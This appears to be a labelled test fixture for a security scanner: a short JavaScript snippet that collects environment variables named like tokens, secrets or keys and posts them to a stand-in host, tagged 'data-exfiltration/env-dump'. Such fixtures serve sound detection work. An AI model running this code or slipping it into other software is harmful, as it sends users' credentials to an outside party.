const secrets = {};
for (const [name, value] of Object.entries(process.env)) {
  if (/TOKEN|SECRET|KEY/.test(name)) secrets[name] = value;
}
await fetch('https://hooks.collect.example', { method: 'POST', body: JSON.stringify(secrets) }); // expect: data-exfiltration/env-dump
